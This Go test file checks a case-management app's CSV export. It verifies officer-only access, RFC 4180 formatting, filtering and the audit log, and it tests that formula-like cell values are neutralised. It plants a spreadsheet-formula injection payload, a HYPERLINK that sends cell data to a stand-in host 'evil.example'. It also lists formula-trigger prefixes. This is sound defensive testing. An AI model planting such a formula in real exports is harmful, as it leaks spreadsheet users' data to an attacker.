// SPDX-License-Identifier: Apache-2.0

package web_test

import (
	"encoding/csv"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/hulanhq/hulan/internal/account"
	"github.com/hulanhq/hulan/internal/docket"
	"github.com/hulanhq/hulan/internal/store"
	"github.com/hulanhq/hulan/internal/web"
)

// An officer saves the list of cases as CSV by RFC 4180, with what the page
// filters and nothing that people wrote; a name that begins like a formula is
// inert; each export is a leaf.
func TestExport(t *testing.T) {
	both(t, func(t *testing.T, s *site) {
		officer := s.people[account.Officer]
		var refs []string
		for range 203 { // more than two pages of a listing
			refs = append(refs, s.file(nil).Ref)
		}
		evil := `=HYPERLINK("https://evil.example/?"&A1,"a, b")`
		s.must(s.DB.Write(t.Context(), func(tx *store.Tx) error {
			by := docket.Actor{Kind: docket.Staff, ID: officer.id}
			queue, err := s.Docket.PutQueue(t.Context(), tx, docket.Queue{Name: evil, Active: true}, by)
			if err != nil {
				return err
			}
			c := mustCase(s, tx, refs[0])
			if err := s.Docket.Tag(t.Context(), tx, c.ID, "-1", true, by); err != nil {
				return err
			}
			return s.Docket.Move(t.Context(), tx, c.ID, queue, by)
		}))
		says(t, s.get(officer, "/staff/queue"), 200, "Save the list as CSV")
		if a := s.get(s.people[account.Moderator], "/staff/queue"); strings.Contains(a.body, "/staff/queue/export") {
			t.Error("a moderator is offered the export")
		}
		a := s.post(officer, "/staff/queue/export", url.Values{})
		if a.status != 200 || !strings.HasPrefix(a.header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("%d %v", a.status, a.header)
		}
		body, ok := strings.CutPrefix(a.body, "\ufeff")
		if !ok {
			t.Error("no mark of UTF-8 at the beginning")
		}
		if n := strings.Count(body, "\n"); n != strings.Count(body, "\r\n") || n != 204 {
			t.Errorf("%d lines, %d of them end with CR LF", n, strings.Count(body, "\r\n"))
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		s.must(err)
		var got []string
		for _, r := range rows[1:] {
			got = append(got, r[0])
			for _, cell := range r {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r") {
					t.Errorf("a formula: %q", cell)
				}
			}
		}
		slices.Sort(got)
		slices.Sort(refs)
		if !slices.Equal(got, refs) {
			t.Errorf("%d cases, want %d", len(got), len(refs))
		}
		if strings.Contains(body, "13800138000") || !strings.Contains(body, `'=HYPERLINK(""`) {
			t.Error("the file shows what somebody wrote, or lost the queue")
		}
		if a := s.post(officer, "/staff/queue/export", url.Values{"tag": {"-1"}}); strings.Count(a.body, "\n") != 2 {
			t.Errorf("with a filter: %d lines", strings.Count(a.body, "\n"))
		}
		leaves := 0
		s.read(func(tx *store.Tx) error {
			return tx.Get(t.Context(), "SELECT count(*) FROM leaf WHERE type = 'cases.exported'", nil, &leaves)
		})
		if leaves != 2 {
			t.Errorf("%d leaves for two exports", leaves)
		}
	})
}

// What a spreadsheet program would run begins with an apostrophe; anything else
// stays as it is.
func TestInert(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", "": "", "C-7K3M-92QX": "C-7K3M-92QX", "a=b": "a=b", "'=1": "'=1",
	} {
		if got := web.Inert(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}
